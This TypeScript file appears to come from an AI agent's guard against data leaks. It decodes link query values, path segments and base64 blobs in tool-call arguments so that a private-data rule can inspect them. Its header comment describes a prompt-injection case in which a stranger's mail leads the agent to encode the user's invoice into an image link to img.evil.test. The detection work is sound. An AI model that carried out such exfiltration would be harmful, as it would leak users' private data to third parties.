import { isUtf8 } from 'node:buffer';
/**
 * What a link in a call's arguments carries (wave 3 outside corpus): a stranger's mail asks the
 * agent to put the user's text into a link — `![](https://img.evil.test/p.gif?q=<the invoice,
 * URL-encoded>)` in a note a third party renders, or a base64 blob in a query — and the phrase
 * and code rules (private-data-rule.ts) read arguments as prose with links left out, so the
 * encoded words were never compared. This gives them the link's query values and path segments
 * as a reader of the request would get them: percent-decoded by WHATWG URL (`+` is a space in a
 * query), and a base64 or base64url value decoded when it is UTF-8 text.
 *
 * Only text is added for the private-data rule; destinations are still the links themselves.
 */

// The same link schemes values.ts reads; a link ends at white space or a closing bracket, but
// for an IPv6 host's own (`http://[::1]/p?q=…`, as values.ts URL_RE).
const LINK =
  /\b(?:https?|ftps?|sftp|wss?):\/\/(?:[^\s<>"'`)\]}[/]{0,256}@)?(?:\[[0-9a-f:.]{2,45}\])?[^\s<>"'`)\]}]{0,4096}/gi;
const BASE64 = /^[A-Za-z0-9+/_-]{16,}={0,2}$/;
/** Most links carry nothing; a call's arguments are capped anyway, but bound the work. */
const MAX_LINKS = 50;

export function linkPayloads(text: string): string[] {
  if (!text.includes('://')) return [];
  const out: string[] = [];
  let n = 0;
  for (const m of text.matchAll(LINK)) {
    if (++n > MAX_LINKS) break;
    let u: URL;
    try {
      u = new URL(m[0]);
    } catch {
      continue;
    }
    const parts = [...u.searchParams.values()];
    for (const seg of u.pathname.split('/'))
      if (seg) {
        try {
          parts.push(decodeURIComponent(seg));
        } catch {
          parts.push(seg);
        }
      }
    for (const p of parts) {
      if (p.length < 8) continue;
      out.push(p);
      const text64 = BASE64.test(p) ? base64Text(p) : undefined;
      if (text64) out.push(text64);
    }
  }
  return out;
}

/** A base64 or base64url value's bytes as text, when they are UTF-8 made of printable text. */
export function base64Text(v: string): string | undefined {
  const bytes = Buffer.from(v.replace(/-/g, '+').replace(/_/g, '/'), 'base64');
  // Checked, not caught: a stranger's text has many runs that are not UTF-8, and a thrown
  // TypeError per run (TextDecoder's fatal mode) costs more than the decode.
  if (!isUtf8(bytes)) return undefined;
  const s = bytes.toString('utf8');
  // eslint-disable-next-line no-control-regex
  return /^[^\x00-\x08\x0E-\x1F\x7F]+$/u.test(s) ? s : undefined;
}
